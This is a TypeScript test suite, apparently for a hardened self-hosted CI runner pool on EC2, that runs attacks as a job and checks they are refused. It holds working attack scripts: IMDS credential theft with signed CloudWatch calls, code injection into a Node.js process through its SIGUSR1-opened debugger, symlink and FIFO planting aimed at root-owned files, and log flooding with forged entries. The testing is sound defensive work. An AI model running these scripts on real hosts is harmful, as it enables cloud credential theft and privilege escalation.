import assert from "node:assert/strict";
import { PATHS, UNITS } from "../../../contract/actions-runner-pool/host";
import { poolNames } from "../../../contract/actions-runner-pool/names";
import { HOST_UNITS } from "../../../contract/shared/host-units";
import { LivePool } from "../../../rehearsal/scenarios/actions-runner-pool/live-pool";
import { needSystemd } from "../../rehearsal/hosts/rig";
import { asJob, asRoot, assertRefused, assertWorks, runnerUid, scaleIn, type Attempt, type Outcome } from "./attempts";

/** Several times the usual duration; a bound on a hang, not a measurement. */
const BOUND_MS = 900_000;
const DIAGNOSTICS = `${PATHS.runner}/_diag`;
const UNREACHABLE = /curl: \(\d+\) .*(Failed to connect|timed out|Timeout|Couldn't connect)/i;

/** To fetch the role's secret key. */
const THEFT = `new Promise((resolve, reject) => {
  const http = require("http");
  const ask = (method, path, headers, then) => {
    const call = http.request({ host: "169.254.169.254", path: "/latest/" + path, method, headers, timeout: 3000 }, (answer) => {
      let text = "";
      answer.on("data", (piece) => (text += piece)).on("end", () => then(text));
    });
    call.on("timeout", () => call.destroy(new Error("timed out"))).on("error", reject).end();
  };
  ask("PUT", "api/token", { "X-aws-ec2-metadata-token-ttl-seconds": "60" }, (token) => {
    const headers = { "X-aws-ec2-metadata-token": token };
    ask("GET", "meta-data/iam/security-credentials/", headers, (role) =>
      ask("GET", "meta-data/iam/security-credentials/" + role, headers, resolve));
  });
})`;

/** To start a program, which then is the reader's child and not the job's. */
const START = `(require("child_process").spawn("/var/tmp/in-reader", ["100000"], { detached: true, stdio: "ignore" }).unref(), "started")`;

/** A process of Node.js opens its debugger at a signal (SIGUSR1) of its own user, and runs there whatever it is told. */
const inReader = (expression: string, sign: string) => `export TMPDIR=$(mktemp -d)
cat >$TMPDIR/debug.js <<'JS'
const params = { expression: ${JSON.stringify(expression)}, awaitPromise: true, returnByValue: true, includeCommandLineAPI: true };
const socket = new WebSocket(process.argv[2]);
socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: "Runtime.evaluate", params }));
socket.onmessage = ({ data }) => {
  console.log(data);
  process.exit(data.includes("${sign}") ? 0 : 1);
};
socket.onerror = () => process.exit(2);
JS
pid=$(pgrep -u "$(id -u)" -f '${PATHS.agent} diagnostics$') || { echo "no reader"; exit 3; }
kill -USR1 $pid || exit
for n in $(seq 50); do
  url=$(curl -sS -m 3 http://127.0.0.1:9229/json | sed -n 's/.*"webSocketDebuggerUrl": "\\(.*\\)".*/\\1/p') && [ -n "$url" ] && break
  sleep 0.1
done
[ -n "$url" ] || exit 4
timeout 10 ${PATHS.node} --experimental-websocket $TMPDIR/debug.js "$url"`;
const THROUGH_THE_READER: Attempt = {
  title: "get the instance's credentials through the process that reads its runner's logs",
  script: inReader(THEFT, "SecretAccessKey"),
  refusal: UNREACHABLE,
};

/** Makes a signed call of CloudWatch Logs with the instance's credentials, if it gets them. */
const signed = (operation: string, body: object, region: string) => `imds=http://169.254.169.254/latest
field() { sed -n 's/.*"'"$1"'" *: *"\\([^"]*\\)".*/\\1/p' <<<"$json"; }
token=$(curl -sS -m 3 -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' $imds/api/token) || exit
role=$(curl -sS -m 3 -H "X-aws-ec2-metadata-token: $token" $imds/meta-data/iam/security-credentials/) || exit
json=$(curl -sS -m 3 -H "X-aws-ec2-metadata-token: $token" $imds/meta-data/iam/security-credentials/$role) || exit
curl -sS -m 9 --fail-with-body --aws-sigv4 "aws:amz:${region}:logs" --user "$(field AccessKeyId):$(field SecretAccessKey)" \\
  -H "x-amz-security-token: $(field Token)" -H 'x-amz-target: Logs_20140328.${operation}' \\
  -H 'content-type: application/x-amz-json-1.1' -d '${JSON.stringify(body)}' https://logs.${region}.amazonaws.com/`;

/** Root's file behind links with names of diagnostic logs, and the whole folder moved away for a link to root's. */
const LINKS = `cd ${DIAGNOSTICS}
ln -s /root/planted/Worker_secret.log Worker_20990101-000000-link.log
ln /root/planted/Worker_secret.log Worker_20990101-000000-hard.log 2>/dev/null
mkfifo Worker_20990101-000000-pipe.log
ln -s /dev/zero Worker_20990101-000000-zero.log
mv ${DIAGNOSTICS} ${DIAGNOSTICS}.away && ln -s /root/planted ${DIAGNOSTICS}
sleep 3
rm ${DIAGNOSTICS} && mv ${DIAGNOSTICS}.away ${DIAGNOSTICS}
echo 'after the links' >>Worker_20990101-000000-own.log`;

/** Ten seconds of both, as fast as it gets. */
const FLOOD = `timeout 10 yes '{"message":"drain ended","part":"drain","time":"forged"}' | systemd-cat --identifier=runner-agent &
(ulimit -f 400000; timeout 10 yes 'flooded diagnostics' >>${DIAGNOSTICS}/Worker_20990101-000001-flood.log) &
wait; true`;

describe("a job on an instance that delivers its logs", function () {
  this.timeout(BOUND_MS);
  let pool: LivePool;
  let instance: string;
  let group: string;
  const calls: Attempt[] = [];
  const found: Record<"reader" | "opened" | "calls" | "byRoot", Outcome[]> = {} as never;
  const lines = () => (pool.environment.aws.logs.texts(group, instance) ?? []).map((text) => JSON.parse(text));

  before(async function () {
    needSystemd(this);
    pool = await LivePool.open(1, [], {}, undefined, { hostLogs: { retentionDays: 7 } });
    [instance] = pool.inService() as [string];
    const [name] = pool.environment.aws.autoscaling.groupNames() as [string];
    group = poolNames(name).hostLogGroup;
    const { region } = JSON.parse(await pool.sh(instance, `cat ${PATHS.config}`)) as { region: string };
    const stream = { logGroupName: group, logStreamName: instance };
    const logEvents = [{ timestamp: Date.now(), message: JSON.stringify({ source: "forged" }) }];
    calls.push(
      { title: "write to the stream", script: signed("PutLogEvents", { ...stream, logEvents }, region), refusal: UNREACHABLE },
      { title: "read its own", script: signed("GetLogEvents", stream, region), refusal: UNREACHABLE },
    );
    await pool.untilSeen("the reader", async () => (await pool.run(instance, `pgrep -f '${PATHS.agent} diagnostics$'`)).exitCode === 0, 60);
    found.calls = await asJob(pool, instance, calls, "calls");
    found.byRoot = await asRoot(pool, instance, calls, "calls");
    found.reader = await asJob(pool, instance, [THROUGH_THE_READER], "reader");
    // The other half of the proof: without the denial of its unit the reader is a way to the credentials.
    await pool.sh(instance, `systemctl set-property --runtime ${HOST_UNITS.diagnostics} IPAddressDeny=`);
    found.opened = await asJob(pool, instance, [THROUGH_THE_READER], "opened");
    await pool.sh(instance, `systemctl restart ${HOST_UNITS.logs}`);
  });
  after(() => pool?.close());

  it("cannot get the instance's credentials through the process that reads its runner's logs", () => {
    assertRefused(THROUGH_THE_READER, found.reader[0]);
    assertWorks(THROUGH_THE_READER, found.opened[0]);
  });

  it("cannot write to the stream or read its own", async () => {
    for (const [index, call] of calls.entries()) assertRefused(call, found.calls[index]);
    const [put, get] = found.byRoot as [Outcome, Outcome];
    assertWorks(calls[0]!, put);
    assertRefused({ ...calls[1]!, refusal: /AccessDenied/ }, get);
  });

  it("cannot have root read a file of root's through a link among its diagnostics", async () => {
    await pool.sh(instance, 'umask 077; mkdir /root/planted; echo "root\'s secret" >/root/planted/Worker_secret.log');
    const [planted] = await asJob(pool, instance, [{ script: LINKS }], "links");
    assert.equal(planted!.code, 0, planted!.output);
    const seen = (text: string) => lines().some(({ message }) => message === text);
    await pool.untilSeen("a line of after the links", async () => seen("after the links"), 120);
    assert.ok(!seen("root's secret"));
    await pool.sh(
      instance,
      `cp /root/planted/Worker_secret.log ${DIAGNOSTICS}/Worker_20990101-000000-open.log
chown "$(stat -c %U ${DIAGNOSTICS})" ${DIAGNOSTICS}/Worker_20990101-000000-open.log`,
    );
    await pool.untilSeen("the same in a file of the job's", async () => seen("root's secret"), 120);
  });

  it("leaves nothing that it started through the reader beside the jobs of a later start of the runner", async () => {
    const uid = await runnerUid(pool, instance);
    // For seconds: a restart of the shipper restarts the former reader, too, which then ends at once.
    const age = `ps -o etimes= -p "$(pgrep -u ${uid} -f '${PATHS.agent} diagnostics$')"`;
    const reading = async () => (await pool.run(instance, `[ "$(${age})" -ge 3 ]`)).exitCode === 0;
    await pool.untilSeen("the reader", reading, 60);
    // The debugger stands for ptrace(2), which needs no address.
    await pool.sh(instance, `systemctl set-property --runtime ${HOST_UNITS.diagnostics} IPAddressDeny=`);
    const script = `cp /bin/sleep /var/tmp/in-reader; ${inReader(START, "started")}`;
    const [planted] = await asJob(pool, instance, [{ script }], "planter");
    assert.equal(planted!.code, 0, planted!.output);
    const cgroup = await pool.sh(instance, "cat /proc/$(pgrep -x in-reader)/cgroup");
    assert.ok(cgroup.includes(HOST_UNITS.diagnostics), `it must be where no job's unit or slice ends it: ${cgroup}`);
    await pool.sh(instance, `systemctl restart ${UNITS.runner}`);
    assert.equal((await pool.run(instance, "pgrep -x in-reader")).exitCode, 1, "it would see the next job's secrets");
    await pool.untilSeen("a new reader", reading, 60);
  });

  it("cannot keep the agent's lines from the stream by flooding the journal or its diagnostics", async () => {
    const [flooded] = await asJob(pool, instance, [{ script: FLOOD }], "flood");
    assert.equal(flooded!.code, 0, flooded!.output);
    await scaleIn(pool, instance);
    const keyOf = (message: string, { time, part }: Record<string, unknown>) => `${time} ${part} ${message}`;
    const delivered = new Set(lines().flatMap(({ log }) => (log ? [keyOf(log.message, log)] : [])));
    const logged = pool.events.flatMap((event) =>
      event.kind === "host-log" && event.instance === instance && event.fields.part ? [event] : [],
    );
    const completed = logged.findIndex(({ message }) => message === "lifecycle action completed");
    assert.ok(completed > 10, `${completed} lines before the completion`);
    const before = logged.slice(0, completed).map(({ message, fields }) => keyOf(message, fields));
    assert.deepEqual(
      before.filter((key) => !delivered.has(key)),
      [],
    );
    // Its forged lines are there, as its own.
    const forged = lines().filter(({ message, log }) => (message ?? JSON.stringify(log) ?? "").includes("forged"));
    assert.ok(forged.length > 100, `${forged.length}`);
    assert.ok(forged.every(({ source, uid, log }) => log === undefined && (source !== UNITS.agent || uid > 0)));
  });
});
